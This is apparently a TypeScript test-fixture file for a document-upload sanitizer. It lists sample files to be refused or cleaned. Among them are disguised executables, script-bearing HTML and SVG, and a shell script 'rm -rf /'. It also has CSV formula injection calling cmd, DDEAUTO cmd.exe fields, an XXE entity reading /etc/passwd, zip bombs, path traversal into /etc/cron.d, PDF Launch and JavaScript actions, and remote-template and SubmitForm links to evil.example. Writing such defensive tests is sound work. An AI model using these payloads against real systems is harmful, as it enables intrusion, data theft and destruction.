import { strToU8, zipSync } from "fflate";

import {
  aChunk,
  aDocx,
  aJpeg,
  anOpenDocument,
  anXlsx,
  aPdf,
  aPng,
  aPptx,
  aSegment,
  cameraData,
  contentTypes,
  relationships,
} from "@/lib/cleaning/factories";

const megabytes = (count: number) => new Uint8Array(count * 1024 * 1024);

const exe = "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0ÿÿ";
const html = "<!doctype html><script>alert(1)</script>";
const bombed = (make: (parts: Record<string, Uint8Array>) => Uint8Array, name: string) => make({ [name]: megabytes(40) });
const laughs = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>`;
const outsideEntity = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`;
const field = (said: string) => `<w:p><w:r><w:instrText>${said}</w:instrText></w:r></w:p>`;
const launch = "<< /S /Launch /F (cmd.exe) >>";

/** A zip file whose directory says something else of its entries than is true. */
function forged(zip: Uint8Array, change: (bytes: Buffer, entry: number) => void): Uint8Array {
  const bytes = Buffer.from(zip);
  change(bytes, bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2])));
  return bytes;
}

/** Refused, each with the key of its words. */
export const refusedFiles: [what: string, name: string, bytes: Uint8Array | string, key: string][] = [
  ["a program that says it is a PDF", "report.pdf", exe, "fileNotWhatItSays"],
  ["a web page that says it is a PDF", "report.pdf", html, "fileNotWhatItSays"],
  ["a web page that says it is a picture", "chart.png", html, "fileNotWhatItSays"],
  ["a web page", "page.html", html, "fileTypeNotAccepted"],
  ["a picture that can run", "chart.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, "fileTypeNotAccepted"],
  ["a picture that can run, called a picture that cannot", "chart.png", "<svg onload='alert(1)'/>", "fileNotWhatItSays"],
  ["a program", "setup.exe", exe, "fileTypeNotAccepted"],
  ["a program behind a double ending", "report.pdf.exe", exe, "fileTypeNotAccepted"],
  ["a program whose name reads backwards", "report\u202Efdp.exe", exe, "fileTypeNotAccepted"],
  ["a program under a harmless double ending", "report.exe.pdf", exe, "fileNotWhatItSays"],
  ["a script", "run.sh", "#!/bin/sh\nrm -rf /", "fileTypeNotAccepted"],
  ["a shortcut", "report.pdf.lnk", "L\0\0\0", "fileTypeNotAccepted"],
  ["a name that is the name of a method", "x.constructor", aPdf(), "fileTypeNotAccepted"],
  ["a name cut by a NUL", "report.exe\0.pdf", exe, "fileNotWhatItSays"],
  ["a file of 0 bytes", "report.pdf", "", "fileEmpty"],
  ["a text of 0 bytes", "notes.txt", "", "fileEmpty"],
  ["a file over 25 MiB", "report.pdf", megabytes(26), "fileTooLarge?max=25"],
  ["a text with a NUL", "notes.txt", "a\0b", "fileNotWhatItSays"],
  ["a program called a text", "notes.txt", exe, "fileNotWhatItSays"],
  ["a table that runs a program", "figures.csv", "region;count\n=cmd|'/c calc'!A0;1\n", "fileHoldsFormulas"],
  ["a table with a formula", "figures.csv", `"a","=HYPERLINK(""http://evil"")"\n`, "fileHoldsFormulas"],
  ["a table with a hidden formula", "figures.csv", "a\t@SUM(A1:A9)\n", "fileHoldsFormulas"],
  ["a document with macros", "letter.docx", aDocx({ "word/vbaProject.bin": "x" }), "fileHoldsPrograms"],
  [
    "a macro document under a plain name",
    "letter.docx",
    zipSync({
      "[Content_Types].xml": strToU8(
        contentTypes("x").replace("vnd.openxmlformats-officedocument.x.main", "vnd.ms-word.document.macroEnabled.main"),
      ),
    }),
    "fileNotWhatItSays",
  ],
  ["a table with macros", "table.xlsx", anXlsx({ "xl/vbaProject.bin": "x" }), "fileHoldsPrograms"],
  ["a document with an embedded object", "letter.docx", aDocx({ "word/embeddings/oleObject1.bin": exe }), "fileHoldsPrograms"],
  ["a document with a control", "letter.docx", aDocx({ "word/activeX/activeX1.xml": "<ax/>" }), "fileHoldsPrograms"],
  ["a document with a program inside", "letter.docx", aDocx({ "word/media/picture.exe": exe }), "fileHoldsPrograms"],
  ["a document with a DDE field", "letter.docx", aDocx({}, field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "fileHoldsPrograms"],
  ["a document with a DDE field in pieces", "letter.docx", aDocx({}, field("DDE") + field("AUTO cmd")), "fileHoldsPrograms"],
  ["a document with a DDE field in disguise", "letter.docx", aDocx({}, field("D&#68;EAUTO cmd")), "fileHoldsPrograms"],
  [
    "a table with a DDE link",
    "table.xlsx",
    anXlsx({ "xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd"/></externalLink>` }),
    "fileHoldsPrograms",
  ],
  [
    "slides that start a program",
    "slides.pptx",
    aPptx({ "ppt/slides/slide1.xml": `<a:hlinkClick action="ppaction://program" r:id="rId1"/>` }),
    "fileHoldsPrograms",
  ],
  ["an OpenDocument file with macros", "text.odt", anOpenDocument("text", { "Basic/Standard/Module1.xml": "<m/>" }), "fileHoldsPrograms"],
  ["an OpenDocument file with scripts", "text.odt", anOpenDocument("text", { "Scripts/python/a.py": "import os" }), "fileHoldsPrograms"],
  [
    "an OpenDocument file that runs something when opened",
    "text.odt",
    anOpenDocument("text", { "content.xml": `<script:event-listener script:event-name="dom:load"/>` }),
    "fileHoldsPrograms",
  ],
  [
    "an OpenDocument file with a password",
    "text.odt",
    anOpenDocument("text", { "META-INF/manifest.xml": "<manifest:encryption-data/>" }),
    "fileEncrypted",
  ],
  ["a document with entities", "letter.docx", aDocx({ "word/document.xml": laughs }), "fileNotWhatItSays"],
  ["a document that reads our files", "letter.docx", aDocx({ "customXml/item1.xml": outsideEntity }), "fileNotWhatItSays"],
  ["a document that is a bomb", "letter.docx", bombed(aDocx, "word/document.xml"), "fileTooComplex"],
  ["a table that is a bomb", "table.xlsx", bombed(anXlsx, "xl/worksheets/sheet1.xml"), "fileTooComplex"],
  [
    "a bomb within a bomb",
    "letter.docx",
    aDocx({ "word/embeddings/a.xlsx": bombed(anXlsx, "xl/worksheets/sheet1.xml") }),
    "fileTooComplex",
  ],
  [
    "documents within documents",
    "letter.docx",
    [1, 2, 3, 4].reduce<Uint8Array>((inner) => aDocx({ "word/embeddings/a.docx": inner }), aDocx()),
    "fileTooComplex",
  ],
  [
    "100,000 empty parts",
    "letter.docx",
    aDocx(Object.fromEntries(Array.from({ length: 20_000 }, (_, place) => [`word/${place}`, ""]))),
    "fileTooComplex",
  ],
  ["parts that lie outside", "letter.docx", aDocx({ "../../etc/cron.d/job": "x" }), "fileNotWhatItSays"],
  ["parts that lie at the root", "letter.docx", aDocx({ "/etc/passwd": "x" }), "fileNotWhatItSays"],
  ["parts with folders of Windows", "letter.docx", aDocx({ "..\\..\\windows\\a.dll": "x" }), "fileNotWhatItSays"],
  ["two parts of one name", "letter.docx", aDocx({ "word/a.xml": "<a/>", "WORD/A.XML": "<b/>" }), "fileNotWhatItSays"],
  [
    "a part that says it is smaller",
    "letter.docx",
    forged(aDocx({ "word/z.bin": "0".repeat(9000) }), (bytes, entry) => bytes.writeUInt32LE(10, entry + 24)),
    "fileTooComplex",
  ],
  [
    "a part whose checksum is wrong",
    "letter.docx",
    forged(aDocx(), (bytes, entry) => bytes.writeUInt32LE(1, entry + 16)),
    "fileNotWhatItSays",
  ],
  [
    "parts that lie over each other",
    "letter.docx",
    forged(aDocx({ "word/z.bin": "0".repeat(9000) }), (bytes, entry) => bytes.writeUInt32LE(bytes.length * 2, entry + 20)),
    "fileNotWhatItSays",
  ],
  ["an archive called a document", "letter.docx", zipSync({ "a.exe": strToU8(exe) }), "fileNotWhatItSays"],
  ["a document cut in two", "letter.docx", aDocx({ "word/z.bin": "0".repeat(9000) }).subarray(0, 300), "fileNotWhatItSays"],
  ["a document called a table", "table.xlsx", aDocx(), "fileNotWhatItSays"],
  ["a PDF that is cut off", "report.pdf", "%PDF-1.7\n1 0 obj\n<<", "fileNotWhatItSays"],
  ["a PDF without pages", "report.pdf", "%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF", "fileNotWhatItSays"],
  [
    "a PDF with a password",
    "report.pdf",
    aPdf({ objects: "9 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>\nendobj", trailer: "/Encrypt 9 0 R /ID [(a)(a)]" }),
    "fileEncrypted",
  ],
  [
    "a signed PDF that runs a script",
    "report.pdf",
    aPdf({
      objects: "9 0 obj\n<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>\nendobj",
      catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Signed 9 0 R",
    }),
    "fileHoldsPrograms",
  ],
  ["a picture of 50,000 × 50,000 points", "chart.png", aPng({ width: 50_000, height: 50_000 }), "fileTooComplex"],
  ["a picture that is cut off", "chart.png", aPng().subarray(0, 40), "fileNotWhatItSays"],
  ["a photograph that is cut off", "photo.jpg", aJpeg().subarray(0, 22), "fileNotWhatItSays"],
  [
    "a photograph with a segment that never ends",
    "photo.jpg",
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff]), Buffer.alloc(9)]),
    "fileNotWhatItSays",
  ],
];

/** Kept without what was hostile in it: these words are nowhere in what is kept. */
export const disarmedFiles: [what: string, name: string, bytes: Uint8Array, gone: string[], findings: string[]][] = [
  [
    "a PDF that runs a script",
    "report.pdf",
    aPdf({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }),
    ["JavaScript", "app.alert"],
    ["PROGRAMS"],
  ],
  [
    "a PDF that runs a script in disguise",
    "report.pdf",
    aPdf({
      objects: "8 0 obj\n/J#61vaScript\nendobj\n9 0 obj\n<< /S 8 0 R /JS (app.alert\\(1\\)) >>\nendobj",
      catalog: "/OpenAction 9 0 R",
    }),
    ["app.alert"],
    ["PROGRAMS"],
  ],
  ["a PDF that starts a program", "report.pdf", aPdf({ page: `/AA << /O ${launch} >>` }), ["Launch", "cmd.exe"], ["PROGRAMS"]],
  [
    "a PDF that sends itself",
    "report.pdf",
    aPdf({ page: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]" }),
    ["SubmitForm", "evil.example"],
    ["PROGRAMS"],
  ],
  [
    "a PDF with a file inside",
    "report.pdf",
    aPdf({
      objects: "9 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZhi\nendstream\nendobj",
      catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>] >> >>",
    }),
    ["EmbeddedFile", "MZhi", "a.exe"],
    ["ATTACHED_FILES"],
  ],
  [
    "a PDF with an archive behind it",
    "report.pdf",
    Buffer.concat([aPdf(), zipSync({ "planted.exe": strToU8(exe) })]),
    ["planted.exe"],
    ["APPENDED_DATA"],
  ],
  ["a picture with a web page behind it", "chart.png", aPng({ after: html }), ["<script>"], ["APPENDED_DATA"]],
  [
    "a picture with a web page in its comment",
    "chart.png",
    aPng({ chunks: [aChunk("tEXt", `Comment\0${html}`)] }),
    ["<script>"],
    ["PICTURE_DATA"],
  ],
  ["a photograph with a program behind it", "photo.jpg", aJpeg({ after: exe }), ["MZ"], ["APPENDED_DATA"]],
  [
    "a photograph with a script in its comment",
    "photo.jpg",
    aJpeg({ segments: [aSegment(0xfe, html), cameraData(6)] }),
    ["<script>", "Planted"],
    ["PICTURE_DATA"],
  ],
  [
    "a document whose template lies elsewhere",
    "letter.docx",
    aDocx({ "word/_rels/settings.xml.rels": relationships(["attachedTemplate", "http://evil.example/t.dotm"]) }),
    ["evil.example"],
    ["OUTSIDE_LINKS"],
  ],
  [
    "a document whose picture lies elsewhere",
    "letter.docx",
    aDocx({ "word/_rels/document.xml.rels": relationships(["image", "//evil.example/a.png"], ["image", "\\\\evil.example\\a.png"]) }),
    ["evil.example"],
    ["OUTSIDE_LINKS"],
  ],
  [
    "a document with a link that runs",
    "letter.docx",
    aDocx({
      "word/_rels/document.xml.rels": relationships(["hyperlink", "javascript:alert(1)"], ["hyperlink", "file:///c:/evil.example"]),
    }),
    ["javascript:", "evil.example"],
    ["OUTSIDE_LINKS"],
  ],
  [
    "a document that hides that its frame lies elsewhere",
    "letter.docx",
    aDocx({ "word/_rels/a.rels": relationships(["frame", "http://evil.example/", "&#69;xternal"]) }),
    ["evil.example"],
    ["OUTSIDE_LINKS"],
  ],
  [
    "an OpenDocument file whose picture lies elsewhere",
    "text.odt",
    anOpenDocument("text", { "content.xml": `<draw:image xlink:href="http://evil.example/a.png"/>` }),
    ["evil.example"],
    ["OUTSIDE_LINKS"],
  ],
];
